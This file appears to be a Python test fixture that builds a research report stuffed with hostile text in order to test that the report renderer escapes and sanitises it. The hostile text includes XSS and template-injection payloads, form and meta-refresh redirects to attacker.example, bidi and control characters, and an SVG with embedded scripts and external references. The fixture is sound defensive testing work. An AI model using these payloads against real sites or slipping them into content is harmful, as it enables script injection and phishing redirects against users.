"""A report whose every text tries to become something else than text."""

from __future__ import annotations

import hashlib
from collections.abc import Callable

from tests.report.material import Shelf, claim, part

from deepresearch.model.evidence import Conflict
from deepresearch.model.mathematics import DataPoint, Figure, MathStatus, MathSummary, Series
from deepresearch.model.report import Report, ReportStatus, ScriptRecord, Usage

TEXTS = (
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "</style><style>*{display:none!important}</style>",
    "</title></head><body onload=document.title='pwned'>",
    "\"><svg onload=document.title='pwned'>",
    "' onmouseover='document.title=1' autofocus onfocus='document.title=1",
    "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    "<form action=http://attacker.example><input name=a></form>",
    "<base href=http://attacker.example/><meta http-equiv=refresh content='0;url=http://attacker.example'>",
    "]]><!-- --><![CDATA[ <b>bold</b>",
    "{{ 7*7 }} {% for a in b %} ${7*7} <%= 1 %>",
    "[click](javascript:document.title='pwned') ![i](http://attacker.example/x.png)",
    "[ref]: http://attacker.example 'x'",
    "# heading\n\n- item\n\n1. one\n\n> quote\n\n```\ncode\n```\n\n---\n\n| a | b |\n|---|---|\n| c | d |",
    "**bold** _em_ ~~gone~~ `code` <https://attacker.example> www.attacker.example https://attacker.example",
    "&lt;script&gt; &amp; &#60;b&#62; &nbsp;",
    "\u202eSWAPPED\u202c and \u2066isolated \u2069 and \u200ftext",
    "NUL \x00 bell \x07 escape \x1b[31m form feed \x0c C1 \x9b delete \x7f",
    "tags \U000e0049\U000e0067\U000e006e hidden \ufffe\uffff",
    "emoji 👩‍👩‍👧‍👦 🏴 e\u0301 ａｂｃ",
    "العربية: بلغت الانبعاثات 18,819 طنًا في 2024 (CO2)",
    "עברית: הפליטות ירדו ב־40.2% ⟦x⟧",
    "日本語：二酸化炭素の排出量は減少した。",
    "no" * 5000,
    "sentence with words. " * 480,
    "back\\slash and trailing \\",
    "line\r\nline\rline\u2028line\u2029line\x85line",
)

SVG = b"""<?xml version="1.0"?>
<?xml-stylesheet href="http://attacker.example/x.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:x="http://www.w3.org/1999/xhtml"
 viewBox="0 0 10 10" onload="document.title='pwned'">
<script>document.title='pwned'</script>
<style>@import url(http://attacker.example/x.css); rect{fill:url(http://attacker.example/f)}</style>
<style>rect{stroke:#123456}</style>
<foreignObject><x:div onclick="document.title='pwned'">label</x:div></foreignObject><foreignObject><x:body><x:script>document.title='pwned'</x:script></x:body></foreignObject>
<a xlink:href="javascript:document.title='pwned'"><text>link</text></a>
<image href="http://attacker.example/a.png"/><image href="data:image/svg+xml;base64,PHN2Zy8+"/>
<image href="data:image/png;base64,iVBORw0KGgo="/>
<use xlink:href="http://attacker.example/a.svg#b"/><use xlink:href="#ok"/>
<rect id="ok" width="5" height="5" fill="url(#gradient)" onclick="alert(1)" style="fill:url('http://attacker.example')"/>
<set attributeName="href" to="javascript:alert(1)"/>
<animate attributeName="href" values="javascript:alert(1)"/>
<text>kept</text>
</svg>"""


def hostile_report() -> tuple[Report, Callable[[str], str], dict[str, bytes]]:
    """One claim, source, limit, conflict, figure, script and data point for each hostile text."""
    shelf = Shelf()
    for number, text in enumerate(TEXTS):
        source = (
            f"/home/{text[:80].replace(chr(0), '')}/{number}.txt" if number % 2 else f"https://host.example/{number}"
        )
        shelf.add(source, f"Before. {text} After.", text, text[:40] or "text/plain", text[:20], text[:20], source)
    sources = [
        f"/home/{text[:80].replace(chr(0), '')}/{number}.txt" if number % 2 else f"https://host.example/{number}"
        for number, text in enumerate(TEXTS)
    ]
    claims = tuple(
        claim(
            f"C{number}",
            text,
            text,
            (shelf.quote(sources[number], text, number),),
            run_id=f"run {text[:60]}",
            missing=(text[:50],),
        )
        for number, text in enumerate(TEXTS)
    )
    points = tuple(
        DataPoint(label=f"{number} {text}", value=number / 3, quote=shelf.quote(sources[number], text, number))
        for number, text in enumerate(TEXTS)
    )
    sha256 = hashlib.sha256(SVG).hexdigest()
    report = Report(
        session_id="s-`1`</code><script>document.title='pwned'</script>",
        question=" ".join(TEXTS[:13]),
        status=ReportStatus.NEEDS_REVIEW,
        team=TEXTS[0],
        answer="\n\n".join(TEXTS) + " [C1] [C2, C3] [C9999] [C1](javascript:alert(1))",
        claims=claims,
        conflicts=tuple(Conflict(claims=("C1", "C2", "C404"), kind=text, note=text) for text in TEXTS),
        limits=TEXTS,
        figures=tuple(
            Figure(path=text, title=text, run_id=f"run {text[:60]}", media_type=text, sha256=sha256)
            for text in TEXTS
        ),
        math=MathSummary(
            status=MathStatus.FAILURE, alert_required=True, degradation_note=TEXTS[0] + TEXTS[12], runs=()
        ),
        usage=Usage(seconds=1e9, cost_usd=None, input_tokens=10**9),
        paths={},
        created_at=TEXTS[0],
        sub_questions=tuple(part(f"S{number}", text) for number, text in enumerate(TEXTS)),
        sources=shelf.entries(claims),
        scripts=tuple(
            ScriptRecord(
                run_id=f"run {text[:60]}",
                title=text,
                script=f"# {text}\nprint('''{text}''')\n```\n",
                files={text: text},
                series=(Series(name=text, unit=text, axis=text, points=points),) if number < 2 else (),
                values={text: text, "nan": float("nan"), "inf": float("inf")},
            )
            for number, text in enumerate(TEXTS)
        ),
    )  # fmt: skip
    return report, shelf.texts.__getitem__, {sha256: SVG}
